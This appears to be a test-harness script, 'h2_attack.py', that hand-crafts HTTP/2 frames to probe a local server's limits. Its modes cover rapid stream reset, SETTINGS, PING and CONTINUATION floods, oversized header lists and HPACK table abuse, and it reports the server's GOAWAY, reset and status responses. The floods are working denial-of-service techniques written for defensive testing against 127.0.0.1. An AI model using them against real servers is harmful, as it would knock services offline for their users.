# SPDX-License-Identifier: ISC
# h2_attack: a hostile HTTP/2 client for tests/integ/h2_limits.sh.  It
# writes frames by hand (RFC 9113 section 4) with a tiny HPACK encoder
# (literal field without indexing, new name, no Huffman: RFC 7541 6.2.2),
# so it can send what no well-behaved library would.
#
#   python3 h2_attack.py MODE PORT [N] [AUTHORITY]
#
# Modes:
#   rapid N          N streams opened (HEADERS) and reset (RST_STREAM CANCEL)
#   settings N       N SETTINGS frames
#   ping N           N PING frames
#   paced N          N PING frames, 20 at a time every 10 ms: never more
#                    acknowledgements owed than a well-behaved peer would
#                    have, only too many a second
#   continuation N   HEADERS without END_HEADERS, then N CONTINUATION frames
#                    of about 1 KiB each (a new header field in each)
#   streams N        N GET requests at once, never reset, once the peer's
#                    SETTINGS are acknowledged: how many served, how many
#                    refused
#   burst N          the same, written with the preface, before the peer's
#                    SETTINGS are read (acknowledged only afterwards), as a
#                    client that starts sending at once
#   biglist N        one GET with N KiB of header fields (HEADERS and
#                    CONTINUATION), then a plain GET on the same connection
#   hpack            a header block whose dynamic table size update asks
#                    for 8192 (over the 4096 the peer allowed)
#   get              one plain GET
#
# It prints what it saw, one "key value" line each: sent (streams or
# frames written before the peer stopped taking them), goaway CODE
# (the error code of the peer's GOAWAY, in hex; "none"), closed yes|no,
# status:NNN COUNT (responses by status), rst:CODE COUNT (streams reset
# by the peer), and per mode extras.
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid) + payload


def hint(v, prefix, first=0):
    """HPACK integer (RFC 7541 5.1) with a PREFIX-bit prefix."""
    top = (1 << prefix) - 1
    if v < top:
        return bytes([first | v])
    out = [first | top]
    v -= top
    while v >= 128:
        out.append((v & 127) | 128)
        v >>= 7
    out.append(v)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name, no Huffman."""
    return b"\x00" + hint(len(name), 7) + name + hint(len(value), 7) + value


def request(authority, path=b"/hello.txt", extra=()):
    b = (literal(b":method", b"GET") + literal(b":scheme", b"http") +
         literal(b":authority", authority) + literal(b":path", path))
    for n, v in extra:
        b += literal(n, v)
    return b


def huff_digits(p):
    """A status code Huffman-coded (RFC 7541 Appendix B): digits only."""
    bits = "".join("{:08b}".format(x) for x in p)
    out, i = "", 0
    while len(out) < 3 and i + 5 <= len(bits):
        v = int(bits[i:i + 5], 2)
        if v < 3:
            out += str(v)
            i += 5
        else:
            out += str(int(bits[i:i + 6], 2) - 0x19 + 3)
            i += 6
    return out


def status_of(block):
    """:status from the first field of a response header block: indexed
    (static table 8-14) or literal with an indexed name."""
    if not block:
        return "?"
    b = block[0]
    static = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}
    if b & 0x80:
        return static.get(b & 0x7F, "?")
    # literal: with indexing (01), without (0000), never (0001); name index 8..14
    idx = b & 0x3F if b & 0x40 else b & 0x0F
    if 8 <= idx <= 14 and len(block) > 1:
        n = block[1] & 0x7F
        v = block[2:2 + n]
        return huff_digits(v) if block[1] & 0x80 else v.decode("latin-1")
    return "?"


class Conn:
    def __init__(self, port, early=b""):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.goaway = None          # (last stream id, code)
        self.closed = False
        self.rst = {}               # stream id -> code
        self.status = {}            # stream id -> status
        self.done = set()           # streams whose response ended
        self.frames = 0
        self.blocks = {}            # stream id -> header block being read
        self.ack = not early        # acknowledge the peer's SETTINGS
        self.unacked = 0
        self.t = threading.Thread(target=self.reader, daemon=True)
        self.send(PREFACE + frame(SETTINGS, 0, 0) + early)
        self.t.start()

    def send(self, data):
        """1: written; 0: the peer closed or stopped taking bytes."""
        try:
            with self.lock:
                self.s.sendall(data)
            return 1
        except (OSError, socket.timeout):
            return 0

    def reader(self):
        buf = b""
        cont = None
        while True:
            try:
                x = self.s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                x = b""
            if not x:
                self.closed = True
                return
            buf += x
            while len(buf) >= 9:
                hi, lo, ftype, flags, sid = struct.unpack(">BHBBI", buf[:9])
                n = (hi << 16) | lo
                sid &= 0x7FFFFFFF
                if len(buf) < 9 + n:
                    break
                p, buf = buf[9:9 + n], buf[9 + n:]
                self.frames += 1
                if ftype == SETTINGS and not flags & ACK:
                    if self.ack:
                        self.send(frame(SETTINGS, ACK, 0))
                    else:
                        self.unacked += 1
                elif ftype == GOAWAY and len(p) >= 8:
                    self.goaway = struct.unpack(">II", p[:8])
                elif ftype == RST and len(p) >= 4:
                    self.rst[sid] = struct.unpack(">I", p[:4])[0]
                elif ftype in (HEADERS, CONT):
                    if ftype == HEADERS:
                        pad = p[0] if flags & 0x8 else 0
                        off = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                        p = p[off:len(p) - pad]
                        cont = sid
                        self.blocks[sid] = b""
                        if flags & END_STREAM:
                            self.done.add(sid)
                    self.blocks[sid] = self.blocks.get(sid, b"") + p
                    if flags & END_HEADERS:
                        if sid not in self.status:
                            self.status[sid] = status_of(self.blocks[sid])
                        cont = None
                elif ftype == DATA:
                    if n:
                        # give the window back so the bodies keep coming
                        inc = struct.pack(">I", n)
                        self.send(frame(WINDOW, 0, 0, inc) + frame(WINDOW, 0, sid, inc))
                    if flags & END_STREAM:
                        self.done.add(sid)

    def wait(self, secs, until=lambda: False):
        end = time.time() + secs
        while time.time() < end and not self.closed and not until():
            time.sleep(0.02)

    def report(self, sent):
        print("sent", sent)
        print("goaway", "0x%x" % self.goaway[1] if self.goaway else "none")
        if self.goaway:
            print("goaway_last_stream", self.goaway[0])
        print("closed", "yes" if self.closed else "no")
        print("frames_received", self.frames)
        tally = {}
        for sid, st in self.status.items():
            if sid in self.done:
                tally["status:" + st] = tally.get("status:" + st, 0) + 1
        for sid, code in self.rst.items():
            tally["rst:0x%x" % code] = tally.get("rst:0x%x" % code, 0) + 1
        for k in sorted(tally):
            print(k, tally[k])


def flood(c, frames, batch):
    """Write FRAMES in batches; returns how many were taken."""
    sent = 0
    for i in range(0, len(frames), batch):
        if c.closed or not c.send(b"".join(frames[i:i + batch])):
            break
        sent += len(frames[i:i + batch])
    return sent


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    auth = (sys.argv[4] if len(sys.argv) > 4 else "api").encode()
    if mode == "burst":
        blk = request(auth)
        c = Conn(port, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, blk)
                                for i in range(n)))
        c.wait(15, lambda: len(c.done) + len(c.rst) >= n)
        c.ack = True
        c.send(frame(SETTINGS, ACK, 0) * c.unacked)
        c.report(n)
        return
    c = Conn(port)
    c.wait(1, lambda: c.frames > 0)      # the peer's SETTINGS
    sent = 0
    if mode == "rapid":
        blk = request(auth)
        for i in range(0, n, 100):
            chunk = b""
            for sid in range(1 + 2 * i, 1 + 2 * min(i + 100, n), 2):
                chunk += (frame(HEADERS, END_HEADERS | END_STREAM, sid, blk) +
                          frame(RST, 0, sid, struct.pack(">I", 0x8)))
            if c.closed or not c.send(chunk):
                break
            sent = min(i + 100, n)
        c.wait(5)
    elif mode == "settings":
        f = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 0))   # ENABLE_PUSH 0
        sent = flood(c, [f] * n, 500)
        c.wait(5)
    elif mode == "ping":
        f = frame(PING, 0, 0, b"12345678")
        sent = flood(c, [f] * n, 500)
        c.wait(5)
    elif mode == "paced":
        f = frame(PING, 0, 0, b"12345678")
        for i in range(0, n, 20):
            if c.closed or not c.send(f * min(20, n - i)):
                break
            sent = min(i + 20, n)
            time.sleep(0.01)
        c.wait(5)
    elif mode == "continuation":
        frames = [frame(HEADERS, END_STREAM, 1, request(auth))]
        for i in range(n):
            frames.append(frame(CONT, 0, 1, literal(b"x-c%d" % i, b"a" * 1000)))
        sent = flood(c, frames, 50) - 1
        c.wait(5)
    elif mode == "streams":
        blk = request(auth)
        sent = flood(c, [frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, blk)
                         for i in range(n)], n)
        c.wait(15, lambda: len(c.done) + len(c.rst) >= n)
    elif mode == "biglist":
        blk = request(auth, extra=[(b"x-big%d" % i, b"b" * 1000) for i in range(n)])
        parts = [blk[i:i + 16000] for i in range(0, len(blk), 16000)]
        frames = [frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0),
                        1, parts[0])]
        for j, p in enumerate(parts[1:], 1):
            frames.append(frame(CONT, END_HEADERS if j == len(parts) - 1 else 0, 1, p))
        sent = flood(c, frames, len(frames))
        c.wait(5, lambda: 1 in c.done or 1 in c.rst)
        print("big_status", c.status.get(1, "none") if 1 in c.done else "none")
        print("big_rst", "0x%x" % c.rst[1] if 1 in c.rst else "none")
        # the same connection afterwards
        if not c.closed and c.goaway is None:
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, request(auth)))
            c.wait(5, lambda: 3 in c.done or 3 in c.rst)
        print("after_status", c.status.get(3, "none") if 3 in c.done else "none")
    elif mode == "hpack":
        blk = hint(8192, 5, 0x20) + request(auth)
        sent = flood(c, [frame(HEADERS, END_HEADERS | END_STREAM, 1, blk)], 1)
        c.wait(5)
    elif mode == "get":
        sent = flood(c, [frame(HEADERS, END_HEADERS | END_STREAM, 1, request(auth))], 1)
        c.wait(5, lambda: 1 in c.done or 1 in c.rst)
    else:
        sys.exit("h2_attack.py: unknown mode %s" % mode)
    c.report(sent)


main()
